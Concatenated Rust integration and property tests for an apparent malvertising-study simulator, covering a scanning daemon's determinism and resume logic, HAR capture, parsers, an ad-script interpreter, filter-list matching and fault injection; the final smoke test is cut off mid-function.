//! Integration tests for the continuous-scanning service mode
//! (`core::serve`): worker-count byte-identity with interleaved queries,
//! kill/resume, TTL re-scan firing order, backpressure shedding, and the
//! verdict-cache memory bound.

use malvertising::core::serve::{ServeConfig, ServeDaemon, ServeReport};

fn tiny(seed: u64) -> ServeConfig {
    ServeConfig::tiny(seed)
}

fn run_with_workers(config: &ServeConfig, workers: usize) -> ServeReport {
    let mut config = config.clone();
    config.workers = workers;
    ServeDaemon::builder()
        .config(config)
        .shard_size(64)
        .build()
        .expect("daemon builds")
        .run()
        .expect("uninterrupted run completes")
}

/// The ISSUE's headline acceptance test: verdict state is a pure function
/// of `(seed, stream, config)` — a 1-worker and an 8-worker daemon over
/// the same replayed stream produce byte-identical state, and queries
/// interleaved at shard boundaries receive identical answers.
#[test]
fn one_vs_eight_workers_byte_identical_with_interleaved_queries() {
    let config = tiny(31);
    let run = |workers: usize| {
        let mut c = config.clone();
        c.workers = workers;
        let daemon = ServeDaemon::builder()
            .config(c)
            .shard_size(64)
            .build()
            .expect("daemon builds");
        // Interleave queries at different boundaries: one URL the stream
        // serves early, one it never serves.
        let handle = daemon.handle();
        let probes = [
            (1, "http://probe.example/never-served"),
            (2, "http://probe.example/also-never"),
        ];
        let mut receivers: Vec<_> = probes
            .iter()
            .map(|(shard, url)| handle.ask_at(*shard, url).expect("query accepted"))
            .collect();
        // A query for a real creative, answered mid-stream.
        receivers.push(
            handle
                .ask_at(3, &first_creative_url(&daemon))
                .expect("query accepted"),
        );
        let report = daemon.run().expect("completes");
        let answers: Vec<String> = receivers
            .into_iter()
            .map(|rx| {
                let a = rx.recv().expect("answered");
                serde_json::to_string(&a).expect("serializes")
            })
            .collect();
        (report.snapshot.state_json(), answers)
    };
    let (state1, answers1) = run(1);
    let (state8, answers8) = run(8);
    assert_eq!(state1, state8, "verdict state depends on worker count");
    assert_eq!(answers1, answers8, "query answers depend on worker count");
}

/// The first impression's slot URL — a creative the daemon certainly
/// scans in shard 1. The stream is addressable and seed-deterministic, so
/// a one-impression replay of the same config derives it exactly.
fn first_creative_url(daemon: &ServeDaemon) -> String {
    let mut c = daemon.config.clone();
    c.impressions = 1;
    let report = ServeDaemon::builder()
        .config(c)
        .build()
        .expect("one-impression daemon builds")
        .run()
        .expect("completes");
    report.snapshot.cache[0].url.clone()
}

/// Kill/resume: a daemon parked at a shard boundary and resumed from its
/// snapshot ends byte-identical to an uninterrupted control run.
#[test]
fn killed_and_resumed_daemon_matches_uninterrupted_control() {
    let config = tiny(32);
    let control = run_with_workers(&config, 4);

    let dir = std::env::temp_dir().join(format!("malvert-serve-resume-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let parked = ServeDaemon::builder()
        .config(config.clone())
        .shard_size(64)
        .checkpoint(&dir)
        .abort_after_shards(3)
        .build()
        .expect("daemon builds")
        .run();
    assert!(parked.is_none(), "abort-after-shards must park the daemon");

    // Resume with a different worker count: state must not depend on it.
    let mut resumed_config = config.clone();
    resumed_config.workers = 1;
    let resumed = ServeDaemon::builder()
        .config(resumed_config)
        .shard_size(64)
        .resume(&dir)
        .build()
        .expect("resumed daemon builds")
        .run()
        .expect("resumed run completes");
    assert_eq!(
        control.snapshot.state_json(),
        resumed.snapshot.state_json(),
        "kill/resume diverged from the uninterrupted control"
    );

    // Resuming an already-complete run is a no-op replay: it must not
    // perturb the persisted state (e.g. by re-planning an empty window).
    let mut replay_config = config.clone();
    replay_config.workers = 2;
    let replayed = ServeDaemon::builder()
        .config(replay_config)
        .shard_size(64)
        .resume(&dir)
        .build()
        .expect("no-op replay builds")
        .run()
        .expect("no-op replay completes");
    assert_eq!(
        control.snapshot.state_json(),
        replayed.snapshot.state_json(),
        "no-op replay diverged from the uninterrupted control"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Resuming under a different configuration is rejected by fingerprint.
#[test]
fn resume_rejects_a_mismatched_config() {
    let config = tiny(33);
    let dir = std::env::temp_dir().join(format!("malvert-serve-reject-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let parked = ServeDaemon::builder()
        .config(config.clone())
        .shard_size(64)
        .checkpoint(&dir)
        .abort_after_shards(1)
        .build()
        .expect("builds")
        .run();
    assert!(parked.is_none());

    let mut other = config.clone();
    other.ttl_days += 1;
    let err = ServeDaemon::builder()
        .config(other)
        .resume(&dir)
        .build()
        .err()
        .expect("mismatched fingerprint must be rejected");
    assert!(err.contains("fingerprint"), "unexpected error: {err}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// TTL re-scans fire in a deterministic order: the `(key, day)` scan log
/// is identical at any worker count, and a short TTL actually produces
/// re-scans of previously cached creatives.
#[test]
fn ttl_rescan_firing_order_is_deterministic() {
    let mut config = tiny(34);
    // One-day TTL over an 8-day replay: every cached verdict expires and
    // must be re-scanned, stressing both re-encounter re-scans and the
    // boundary backlog sweep.
    config.ttl_days = 1;
    let run = |workers: usize| {
        let mut c = config.clone();
        c.workers = workers;
        ServeDaemon::builder()
            .config(c)
            .shard_size(64)
            .record_scan_log(true)
            .build()
            .expect("builds")
            .run()
            .expect("completes")
    };
    let a = run(1);
    let b = run(4);
    assert!(
        !a.scan_log.is_empty(),
        "scan log was requested but is empty"
    );
    assert_eq!(
        a.scan_log, b.scan_log,
        "re-scan firing order depends on worker count"
    );
    assert!(
        a.snapshot.counters.rescans > 0,
        "a one-day TTL over a multi-day stream must re-scan"
    );
    // The log records actual re-scans: some key appears on two days.
    let mut days_by_key = std::collections::HashMap::new();
    for &(key, day) in &a.scan_log {
        days_by_key
            .entry(key)
            .or_insert_with(std::collections::BTreeSet::new)
            .insert(day);
    }
    assert!(
        days_by_key.values().any(|days| days.len() > 1),
        "no creative was scanned on two different days"
    );
}

/// Backpressure: a tiny scan queue sheds deterministically, the shed count
/// surfaces through `RunCounters`, and shedding degrades gracefully (the
/// daemon still completes and keeps serving).
#[test]
fn backpressure_sheds_into_run_counters() {
    let mut config = tiny(35);
    config.queue_capacity = 3;
    let a = run_with_workers(&config, 1);
    let b = run_with_workers(&config, 8);
    assert!(
        a.counters.serve_shed > 0,
        "a 3-scan queue over this stream must shed"
    );
    assert_eq!(a.counters.serve_shed, b.counters.serve_shed);
    assert_eq!(a.counters.serve_ingested, config.impressions);
    assert_eq!(a.snapshot.state_json(), b.snapshot.state_json());
    // Shed scans are deferred, not lost: the backlog gauge and the stale
    // counters stay visible in RunCounters for `malvert health`.
    assert_eq!(a.counters.serve_scans, a.snapshot.counters.scans);
    assert_eq!(
        a.counters.serve_rescan_backlog,
        a.snapshot.counters.rescan_backlog
    );
}

/// Memory bound: the verdict cache never exceeds its capacity, evictions
/// are counted, and eviction order is deterministic.
#[test]
fn verdict_cache_stays_bounded_and_evicts_deterministically() {
    let mut config = tiny(36);
    config.cache_capacity = 16;
    let a = run_with_workers(&config, 1);
    let b = run_with_workers(&config, 4);
    assert!(a.snapshot.cache.len() <= 16, "cache exceeded its bound");
    assert!(
        a.snapshot.counters.evictions > 0,
        "a 16-entry cache over this stream must evict"
    );
    assert_eq!(a.snapshot.state_json(), b.snapshot.state_json());
}
