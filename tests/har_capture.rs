//! HAR export integration: captures from real honeyclient visits serialize
//! to valid JSON that a standard parser accepts.

use malvertising::adnet::AdWorldConfig;
use malvertising::core::world::StudyWorld;
use malvertising::oracle::Oracle;
use malvertising::types::{AdNetworkId, SimTime};
use malvertising::websim::WebConfig;

fn small_world() -> StudyWorld {
    StudyWorld::build(
        88,
        &WebConfig {
            ranking_universe: 10_000,
            top_slice: 10,
            bottom_slice: 10,
            random_slice: 10,
            security_feed: 5,
            ad_network_count: 40,
            sandbox_adoption: 0.0,
        },
        &AdWorldConfig::default(),
        1.0,
        30,
    )
}

#[test]
fn har_from_live_visits_parses_as_json() {
    let world = small_world();
    let oracle = Oracle::builder(&world.network, &world.blacklists, &world.scanner)
        .seeds(world.tree)
        .build();
    let mut checked = 0;
    for network in [0u32, 6, 25, 39] {
        for day in [3u32, 9] {
            let url = world.ads.serve_url(AdNetworkId(network), 42, 1);
            let visit = oracle.honeyclient_visit(&url, SimTime::at(day, 1));
            let har = visit.capture.to_har_json();
            let parsed: serde_json::Value =
                serde_json::from_str(&har).expect("HAR must be valid JSON");
            let entries = parsed["log"]["entries"]
                .as_array()
                .expect("entries array");
            assert_eq!(entries.len(), visit.capture.len());
            for entry in entries {
                assert!(entry["request"]["url"].as_str().is_some());
                assert!(entry["response"]["status"].as_i64().is_some());
            }
            checked += 1;
        }
    }
    assert_eq!(checked, 8);
}

#[test]
fn har_captures_redirect_chains() {
    let world = small_world();
    let oracle = Oracle::builder(&world.network, &world.blacklists, &world.scanner)
        .seeds(world.tree)
        .build();
    // Scan until we find a visit with at least one redirect and confirm the
    // HAR records the redirectURL field for it.
    for day in 0..20u32 {
        let url = world.ads.serve_url(AdNetworkId(0), 7, 2);
        let visit = oracle.honeyclient_visit(&url, SimTime::at(day, 0));
        if visit
            .capture
            .exchanges()
            .iter()
            .any(|e| e.location.is_some())
        {
            let har = visit.capture.to_har_json();
            let parsed: serde_json::Value = serde_json::from_str(&har).unwrap();
            let has_redirect = parsed["log"]["entries"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["response"]["redirectURL"].is_string());
            assert!(has_redirect);
            return;
        }
    }
    panic!("no redirecting serve found in 20 days of tries");
}
