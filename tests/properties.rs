//! Property-based tests (proptest) over the parsing substrates and core
//! invariants: the parsers never panic, round-trips are stable, and the
//! deterministic RNG behaves.

use malvertising::adscript::{Interpreter, Limits, NoHost};
use malvertising::filterlist::{FilterSet, MatchScratch, RequestContext, ResourceType};
use malvertising::html::{parse_document, serialize};
use malvertising::types::rng::SeedTree;
use malvertising::types::{DomainName, Url};
use proptest::prelude::*;

/// Shared vocabulary for the indexed-vs-naive differential test: rules and
/// URLs draw path segments and hosts from the same small pool, so random
/// URLs collide with random rules often instead of almost never.
const VOCAB: &[&str] = &[
    "banner", "track", "serve", "zone", "click", "popunder", "creative", "ads", "img", "promo",
];

fn vocab() -> impl Strategy<Value = &'static str> {
    prop::sample::select(VOCAB)
}

/// One random filter rule covering every shape the matcher understands:
/// domain anchors, path substrings, wildcards, start/end anchors, rules too
/// short to index (fallback bucket), resource-type and party options, and
/// `@@` exceptions.
fn arb_filter_rule() -> impl Strategy<Value = String> {
    prop_oneof![
        ("[a-z]{3,6}", vocab()).prop_map(|(h, w)| format!("||{w}{h}.com^")),
        vocab().prop_map(|w| format!("/{w}/")),
        (vocab(), vocab()).prop_map(|(a, b)| format!("/{a}/*{b}=")),
        "[a-z]{3,6}".prop_map(|h| format!("|http://{h}.")),
        vocab().prop_map(|w| format!("/{w}.swf|")),
        Just("/ad".to_string()),
        vocab().prop_map(|w| format!("/{w}/$subdocument")),
        vocab().prop_map(|w| format!("||{w}.com^$third-party")),
        vocab().prop_map(|w| format!("@@||{w}.com/{w}/")),
    ]
}

/// One random AdScript program over a small statement grammar: global
/// mutation, locals, branches, bounded loops, function declarations, and
/// `eval` — every construct the compile/execute split has to preserve. The
/// program funnels its state into the `out` global so two runs can be
/// compared by a single observation.
fn arb_adscript_program() -> impl Strategy<Value = String> {
    (0i32..100, prop::collection::vec((0u8..6, 0i32..9), 1..12)).prop_map(|(seed, stmts)| {
        let mut src = format!("var x = {seed}; var y = '';\n");
        for (i, (kind, k)) in stmts.into_iter().enumerate() {
            let stmt = match kind {
                0 => format!("x = x + {k};"),
                1 => format!("var v{i} = x * {k}; x = x + v{i};"),
                2 => format!("if (x % 2 === 0) {{ y = y + 'e{k}'; }} else {{ y = y + 'o{k}'; }}"),
                3 => format!("for (var i{i} = 0; i{i} < {k}; i{i}++) {{ x = x + i{i}; }}"),
                4 => format!(
                    "function f{i}(a) {{ var t = a % 97; return t * {k} + 1; }} x = f{i}(x);"
                ),
                _ => format!("x = eval('x + {k}');"),
            };
            src.push_str(&stmt);
            src.push('\n');
        }
        src.push_str("out = '' + x + ':' + y;\n");
        src
    })
}

/// One random request URL built over the same vocabulary as the rules.
fn arb_match_url() -> impl Strategy<Value = String> {
    let seg = prop_oneof!["[a-z0-9]{1,5}", vocab().prop_map(String::from)];
    (
        prop_oneof!["[a-z]{3,6}", vocab().prop_map(String::from)],
        prop::sample::select(&["com", "net", "biz"][..]),
        prop::collection::vec(seg, 0..3),
        proptest::option::of((vocab(), "[a-z0-9]{0,4}")),
    )
        .prop_map(|(host, tld, segs, query)| {
            let mut url = format!("http://{host}.{tld}/");
            url.push_str(&segs.join("/"));
            if let Some((k, v)) = query {
                url.push('?');
                url.push_str(k);
                url.push('=');
                url.push_str(&v);
            }
            url
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    // ---------- URL ----------

    #[test]
    fn url_parse_never_panics(s in "\\PC{0,120}") {
        let _ = Url::parse(&s);
    }

    #[test]
    fn url_display_reparses(host in "[a-z]{1,8}(\\.[a-z]{1,8}){1,2}",
                            path in "(/[a-z0-9._-]{0,10}){0,4}",
                            query in "([a-z]{1,5}=[a-z0-9]{0,5}(&[a-z]{1,5}=[a-z0-9]{0,5}){0,3})?") {
        let mut text = format!("http://{host}{}", if path.is_empty() { "/".into() } else { path.clone() });
        if !query.is_empty() {
            text.push('?');
            text.push_str(&query);
        }
        if let Ok(url) = Url::parse(&text) {
            let round = Url::parse(&url.to_string()).unwrap();
            prop_assert_eq!(url, round);
        }
    }

    #[test]
    fn url_join_never_panics(base_path in "(/[a-z0-9.]{0,8}){0,3}",
                             reference in "\\PC{0,60}") {
        let base = Url::parse(&format!("http://base.com{}",
            if base_path.is_empty() { "/".to_string() } else { base_path })).unwrap();
        let _ = base.join(&reference);
    }

    #[test]
    fn url_join_absolute_paths_rooted(seg in "[a-z0-9]{1,10}") {
        let base = Url::parse("http://a.com/x/y/z").unwrap();
        let joined = base.join(&format!("/{seg}")).unwrap();
        let expected = format!("/{seg}");
        prop_assert_eq!(joined.path(), expected.as_str());
        prop_assert_eq!(joined.host().unwrap().as_str(), "a.com");
    }

    // ---------- domains ----------

    #[test]
    fn domain_parse_never_panics(s in "\\PC{0,80}") {
        let _ = DomainName::parse(&s);
    }

    #[test]
    fn domain_registered_is_suffix(labels in prop::collection::vec("[a-z]{1,6}", 2..5)) {
        let name = labels.join(".") + ".com";
        let d = DomainName::parse(&name).unwrap();
        if let Some(reg) = d.registered_domain() {
            prop_assert!(d.is_within(reg.domain()));
            prop_assert!(reg.as_str().ends_with(".com"));
        }
    }

    // ---------- HTML ----------

    #[test]
    fn html_parse_never_panics(s in "\\PC{0,400}") {
        let _ = parse_document(&s);
    }

    #[test]
    fn html_serialize_is_fixpoint(s in "\\PC{0,300}") {
        // parse → serialize → parse → serialize must stabilize.
        let once = serialize(&parse_document(&s));
        let twice = serialize(&parse_document(&once));
        prop_assert_eq!(once, twice);
    }

    #[test]
    fn html_structured_roundtrip(tag in "(div|span|p|b|i)",
                                 text in "[a-zA-Z0-9 ]{0,40}",
                                 attr in "[a-z]{1,8}") {
        let src = format!("<{tag} class=\"{attr}\">{text}</{tag}>");
        let round = serialize(&parse_document(&src));
        prop_assert_eq!(src, round);
    }

    #[test]
    fn entities_roundtrip(s in "\\PC{0,100}") {
        use malvertising::html::entities::{decode, escape_text};
        prop_assert_eq!(decode(&escape_text(&s)), s);
    }

    // ---------- AdScript ----------

    #[test]
    fn adscript_never_panics_on_garbage(s in "\\PC{0,200}") {
        let mut interp = Interpreter::new(NoHost, Limits {
            max_steps: 50_000,
            max_depth: 32,
        }, 1);
        let _ = interp.run(&s);
    }

    #[test]
    fn adscript_terminates_within_budget(body in "(x = x \\+ 1; ){1,5}") {
        let mut interp = Interpreter::new(NoHost, Limits {
            max_steps: 20_000,
            max_depth: 16,
        }, 1);
        let src = format!("var x = 0; while (true) {{ {body} }}");
        let err = interp.run(&src).unwrap_err();
        prop_assert_eq!(err, malvertising::adscript::ScriptError::BudgetExhausted);
    }

    #[test]
    fn adscript_arithmetic_matches_rust(a in -1000i32..1000, b in -1000i32..1000) {
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.run(&format!("out = {a} + {b}; out2 = {a} * {b};")).unwrap();
        let out = interp.get_global("out").cloned().unwrap().to_number();
        let out2 = interp.get_global("out2").cloned().unwrap().to_number();
        prop_assert_eq!(out, f64::from(a) + f64::from(b));
        prop_assert_eq!(out2, f64::from(a) * f64::from(b));
    }

    #[test]
    fn adscript_string_concat_associative(a in "[a-z]{0,8}", b in "[a-z]{0,8}", c in "[a-z]{0,8}") {
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.run(&format!(
            "left = ('{a}' + '{b}') + '{c}'; right = '{a}' + ('{b}' + '{c}');"
        )).unwrap();
        let left = interp.get_global("left").cloned().unwrap();
        let right = interp.get_global("right").cloned().unwrap();
        prop_assert!(left.strict_eq(&right));
    }

    #[test]
    fn obfuscation_preserves_semantics(n in 0u32..10_000, layers in 0u8..3) {
        use malvertising::adnet::creative::obfuscate;
        use malvertising::types::DetRng;
        let mut rng = DetRng::new(u64::from(n));
        let src = format!("out = {n} % 97;");
        let obf = obfuscate(&src, layers, &mut rng);
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.run(&obf).unwrap();
        let out = interp.get_global("out").cloned().unwrap().to_number();
        prop_assert_eq!(out, f64::from(n % 97));
    }

    #[test]
    fn adscript_precompiled_equals_direct(src in arb_adscript_program()) {
        // The tentpole invariant for the compile/execute split: running the
        // source directly, running a precompiled program, and running a
        // cache *hit* (second compile of the same source) must observe the
        // same `out`, for every program the grammar can produce.
        use malvertising::adscript::{CompiledScript, ScriptCache, ScriptStats};
        let script = CompiledScript::compile(&src).expect("generated program parses");

        let mut direct = Interpreter::new(NoHost, Limits::default(), 1);
        direct.run(&src).expect("generated program runs");
        let direct_out = direct.get_global("out").cloned().unwrap();

        let mut precompiled = Interpreter::new(NoHost, Limits::default(), 1);
        precompiled.run_program(&script).expect("precompiled program runs");
        let precompiled_out = precompiled.get_global("out").cloned().unwrap();
        prop_assert!(direct_out.strict_eq(&precompiled_out),
            "precompiled run diverges from direct run on:\n{}", src);

        let stats = ScriptStats::new();
        let cache = ScriptCache::new(16, stats.clone());
        cache.compile(&src).expect("cached compile");
        let hit = cache.compile(&src).expect("cache hit");
        prop_assert_eq!(stats.cache_hits(), 1);
        let mut warm = Interpreter::new(NoHost, Limits::default(), 1);
        warm.run_program(&hit).expect("cache-hit program runs");
        let warm_out = warm.get_global("out").cloned().unwrap();
        prop_assert!(direct_out.strict_eq(&warm_out),
            "cache-hit run diverges from direct run on:\n{}", src);
    }

    // ---------- filter list ----------

    #[test]
    fn filterset_parse_never_panics(s in "\\PC{0,200}") {
        let _ = FilterSet::parse(&s);
    }

    #[test]
    fn filterset_match_never_panics(rule in "[|@$a-z0-9^*./-]{1,40}",
                                    url_path in "(/[a-z0-9]{0,8}){0,3}") {
        let set = FilterSet::parse(&rule);
        let url = Url::parse(&format!("http://test-host.com{}",
            if url_path.is_empty() { "/".to_string() } else { url_path })).unwrap();
        let ctx = RequestContext::iframe_from(&DomainName::parse("source.com").unwrap());
        let _ = set.matches(&url, &ctx);
    }

    #[test]
    fn indexed_matcher_equals_naive(
        rules in prop::collection::vec(arb_filter_rule(), 0..40),
        urls in prop::collection::vec(arb_match_url(), 1..25),
        source in prop::sample::select(&["pub.com", "banner.com", "track.net"][..]),
        as_script in any::<bool>(),
    ) {
        // The tentpole invariant: the token-indexed matcher (with scratch
        // reuse, as the crawler runs it) returns byte-identical results to
        // the retained naive scan — same verdict, same matched rule text,
        // same first-match priority — for every rule list and URL.
        let set = FilterSet::parse(&rules.join("\n"));
        let ctx = RequestContext {
            source_host: Some(DomainName::parse(source).unwrap()),
            resource: if as_script { ResourceType::Script } else { ResourceType::Subdocument },
        };
        let mut scratch = MatchScratch::default();
        for text in &urls {
            if let Ok(url) = Url::parse(text) {
                let indexed = set.matches_with(&url, &ctx, &mut scratch);
                let naive = set.matches_naive(&url, &ctx);
                prop_assert_eq!(indexed, naive, "divergence on {} against {:?}", url, rules);
            }
        }
    }

    #[test]
    fn domain_anchor_rule_matches_own_domain(host in "[a-z]{2,10}\\.(com|net|biz)") {
        let set = FilterSet::parse(&format!("||{host}^"));
        let ctx = RequestContext::iframe_from(&DomainName::parse("pub.com").unwrap());
        let url = Url::parse(&format!("http://{host}/anything")).unwrap();
        prop_assert!(set.is_ad_url(&url, &ctx));
        // A different registered domain must not match.
        let other = Url::parse("http://unrelated-host.org/anything").unwrap();
        prop_assert!(!set.is_ad_url(&other, &ctx));
    }

    // ---------- deterministic RNG ----------

    #[test]
    fn seedtree_paths_replay(seed in any::<u64>(), label in "[a-z]{1,12}", idx in any::<u64>()) {
        use rand::RngCore;
        let a = SeedTree::new(seed).branch(&label).branch_idx(idx).rng().next_u64();
        let b = SeedTree::new(seed).branch(&label).branch_idx(idx).rng().next_u64();
        prop_assert_eq!(a, b);
    }

    #[test]
    fn detrng_below_in_range(seed in any::<u64>(), bound in 1usize..10_000) {
        use malvertising::types::DetRng;
        let mut rng = DetRng::new(seed);
        for _ in 0..32 {
            prop_assert!(rng.below(bound) < bound);
        }
    }

    #[test]
    fn base64_roundtrip(data in prop::collection::vec(any::<u8>(), 0..64)) {
        use malvertising::adscript::stdlib::{base64_decode, base64_encode};
        let encoded = base64_encode(&data);
        let decoded = base64_decode(&encoded).unwrap();
        // atob semantics: each byte becomes one latin-1 char.
        let decoded_bytes: Vec<u8> = decoded.chars().map(|c| c as u8).collect();
        prop_assert_eq!(decoded_bytes, data);
    }

    #[test]
    fn percent_roundtrip(s in "[ -~]{0,60}") {
        use malvertising::adscript::stdlib::{percent_decode, percent_encode};
        prop_assert_eq!(percent_decode(&percent_encode(&s)), s);
    }

    // ---------- interpreter determinism ----------

    #[test]
    fn adscript_same_seed_same_randoms(seed in any::<u64>()) {
        let run = |seed: u64| {
            let mut interp = Interpreter::new(NoHost, Limits::default(), seed);
            interp.run("out = Math.random() + '/' + Math.random();").unwrap();
            let v = interp.get_global("out").cloned().unwrap();
            interp.display_value(&v)
        };
        prop_assert_eq!(run(seed), run(seed));
    }

    #[test]
    fn switch_equivalent_to_if_chain(x in 0i32..6) {
        let mut a = Interpreter::new(NoHost, Limits::default(), 1);
        a.run(&format!(
            "switch ({x}) {{ case 0: out = 'zero'; break; case 1: out = 'one'; break; \
             default: out = 'many'; }}"
        )).unwrap();
        let mut b = Interpreter::new(NoHost, Limits::default(), 1);
        b.run(&format!(
            "if ({x} === 0) {{ out = 'zero'; }} else if ({x} === 1) {{ out = 'one'; }} \
             else {{ out = 'many'; }}"
        )).unwrap();
        let av = a.get_global("out").cloned().unwrap();
        let bv = b.get_global("out").cloned().unwrap();
        prop_assert!(av.strict_eq(&bv));
    }

    // ---------- blacklist monotonicity ----------

    #[test]
    fn blacklist_listings_monotone_in_time(seed in any::<u64>(), day in 0u32..80) {
        use malvertising::blacklist::{BlacklistService, DomainTruth};
        use malvertising::types::rng::SeedTree;
        let mut svc = BlacklistService::new(SeedTree::new(seed));
        let d = DomainName::parse("mono-test.biz").unwrap();
        svc.register(d.clone(), DomainTruth::Malicious { active_from: 5 });
        let early = svc.listing_count(&d, day);
        let later = svc.listing_count(&d, day + 10);
        prop_assert!(later >= early);
    }

    // ---------- latency histograms ----------

    #[test]
    fn histogram_merge_associative_commutative(
        a in prop::collection::vec(any::<u64>(), 0..64),
        b in prop::collection::vec(any::<u64>(), 0..64),
        c in prop::collection::vec(any::<u64>(), 0..64),
    ) {
        // Sharded metrics recording folds per-worker histograms in whatever
        // order workers finish; the fold must not care.
        use malvertising::trace::LogHistogram;
        let record = |vals: &[u64]| {
            let mut h = LogHistogram::new();
            for &v in vals {
                h.record_us(v);
            }
            h
        };
        let (ha, hb, hc) = (record(&a), record(&b), record(&c));
        let mut left = ha.clone();
        left.merge(&hb);
        left.merge(&hc);
        let mut bc = hb.clone();
        bc.merge(&hc);
        let mut right = ha.clone();
        right.merge(&bc);
        prop_assert_eq!(&left, &right, "merge is not associative");
        let mut ab = ha.clone();
        ab.merge(&hb);
        let mut ba = hb.clone();
        ba.merge(&ha);
        prop_assert_eq!(&ab, &ba, "merge is not commutative");
        // Any sharding equals one-shot recording.
        let mut all = a.clone();
        all.extend_from_slice(&b);
        all.extend_from_slice(&c);
        prop_assert_eq!(&left, &record(&all));
        // Quantiles on the merged histogram are total and ordered.
        let (p0, p50, p100) = (
            left.quantile_us(0.0),
            left.quantile_us(0.5),
            left.quantile_us(1.0),
        );
        prop_assert!(p0 <= p50 && p50 <= p100);
        prop_assert_eq!(p100, left.max_us());
    }

    // ---------- cookie jar ----------

    #[test]
    fn cookie_roundtrip(name in "[a-z]{1,10}", value in "[a-zA-Z0-9]{0,20}") {
        use malvertising::net::CookieJar;
        let mut jar = CookieJar::new();
        let host = DomainName::parse("sub.shop-site.com").unwrap();
        jar.store(&host, &name, &value);
        prop_assert_eq!(jar.get(&host, &name), Some(value.as_str()));
        let header = jar.header_for(&host);
        let expected = format!("{name}={value}");
        prop_assert!(header.contains(&expected));
    }
}

// ---------- fault injection ----------

use malvertising::net::{
    Body, FaultProfile, FetchLog, HttpRequest, HttpResponse, Network, OriginServer, ServeCtx,
    TrafficCapture,
};
use malvertising::types::{CrawlErrorClass, SimTime};
use std::sync::Arc;

/// A two-page origin for the fault harness: `/` serves HTML that links a
/// redirect hop, `/bounce` redirects back to a landing page.
struct ChaosOrigin;

impl OriginServer for ChaosOrigin {
    fn handle(&self, req: &HttpRequest, _ctx: &mut ServeCtx) -> HttpResponse {
        match req.url.path() {
            "/bounce" => {
                HttpResponse::redirect(Url::parse("http://chaos-origin.com/land").unwrap())
            }
            "/land" => HttpResponse::ok(Body::Html("<html><body>landed</body></html>".into())),
            _ => HttpResponse::ok(Body::Html(
                "<html><body><iframe src=\"/bounce\"></iframe>café &amp; more</body></html>".into(),
            )),
        }
    }
}

/// Any fault profile the knob space can express (probabilities may sum past
/// 1.0; `plan_for` clamps per-kind and treats the excess as "no fault").
fn arb_fault_profile() -> impl Strategy<Value = FaultProfile> {
    (
        (0.0f64..=1.0, 0.0f64..=1.0, 0.0f64..=1.0),
        (0.0f64..=1.0, 0.0f64..=1.0, 0.0f64..=1.0),
        0u32..6,
    )
        .prop_map(
            |(
                (nx_flap, server_error, connection_reset),
                (timeout, truncated_body, malformed_html),
                max_flaps,
            )| FaultProfile {
                nx_flap,
                server_error,
                connection_reset,
                timeout,
                truncated_body,
                malformed_html,
                max_flaps,
            },
        )
}

proptest! {
    #[test]
    fn fault_plans_replay_and_respect_bounds(
        profile in arb_fault_profile(),
        seed in any::<u64>(),
        day in 0u32..90,
        refresh in 0u32..4,
        path in "(/[a-z0-9]{1,6}){0,3}",
    ) {
        let url = Url::parse(&format!(
            "http://fault-host.com{}",
            if path.is_empty() { "/".to_string() } else { path }
        )).unwrap();
        let tree = SeedTree::new(seed);
        let time = SimTime::at(day, refresh);
        let a = profile.plan_for(tree, time, &url);
        prop_assert_eq!(a, profile.plan_for(tree, time, &url));
        // Transient plans clear within the configured flap bound; persistent
        // and clean plans never flap.
        prop_assert!(a.flaps <= profile.max_flaps.max(1));
        let _ = a.fails_attempt(0);
        let _ = a.fails_attempt(u32::MAX);
    }

    #[test]
    fn faulted_fetches_never_panic_and_replay(
        profile in arb_fault_profile(),
        seed in any::<u64>(),
        day in 0u32..30,
        max_retries in 0u32..4,
    ) {
        let mut network = Network::new(SeedTree::new(seed));
        network.register(
            DomainName::parse("chaos-origin.com").unwrap(),
            Arc::new(ChaosOrigin),
        );
        network.set_fault_profile(Some(profile));
        let req = HttpRequest::get(Url::parse("http://chaos-origin.com/").unwrap());
        let time = SimTime::at(day, 0);

        let fetch = || {
            let mut capture = TrafficCapture::new();
            let mut log = FetchLog::default();
            let result = network.fetch_logged(&req, time, &mut capture, max_retries, &mut log);
            (result, log)
        };
        let (result_a, log_a) = fetch();
        let (result_b, log_b) = fetch();

        // Byte-identical replay: outcome, error log, and retry count.
        prop_assert_eq!(format!("{result_a:?}"), format!("{result_b:?}"));
        prop_assert_eq!(&log_a.errors, &log_b.errors);
        prop_assert_eq!(log_a.retries, log_b.retries);

        // Only transient fault classes are ever marked recovered, and a
        // recovery implies at least one retry was spent.
        for err in &log_a.errors {
            if err.recovered {
                prop_assert!(matches!(
                    err.class,
                    CrawlErrorClass::Dns
                        | CrawlErrorClass::Http5xx
                        | CrawlErrorClass::Timeout
                        | CrawlErrorClass::ConnectionReset
                ));
            }
        }
        if log_a.errors.iter().any(|e| e.recovered) {
            prop_assert!(log_a.retries > 0);
        }
        // A clean profile injects nothing.
        if profile == FaultProfile::default() {
            prop_assert!(log_a.errors.is_empty() && log_a.retries == 0);
            prop_assert!(result_a.is_ok());
        }
    }
}
