//! Paper-scale generation smoke test: the full-size world (43k sites, the
//! paper's population counts) generates and wires without issue. The crawl
//! itself at this scale is exercised by `examples/full_study.rs` with
//! `WebConfig::paper_scale()`, not by the test suite.

use malvertising::adnet::AdWorldConfig;
use malvertising::core::world::StudyWorld;
use malvertising::types::rng::SeedTree;
use malvertising::websim::{CrawlCluster, WebConfig, WorldWeb};

#[test]
fn paper_scale_web_generates() {
    let config = WebConfig::paper_scale();
    assert_eq!(config.total_sites(), 43_000);
    let web = WorldWeb::generate(SeedTree::new(2014), &config);
    assert_eq!(web.sites.len(), 43_000);
    assert_eq!(web.cluster_sites(CrawlCluster::Top).count(), 10_000);
    assert_eq!(web.cluster_sites(CrawlCluster::Bottom).count(), 10_000);
    // Domains unique at full scale too.
    let mut domains: Vec<&str> = web.sites.iter().map(|s| s.domain.as_str()).collect();
    domains.sort_unstable();
    let before = domains.len();
    domains.dedup();
    assert_eq!(domains.len(), before, "domain collision at paper scale");
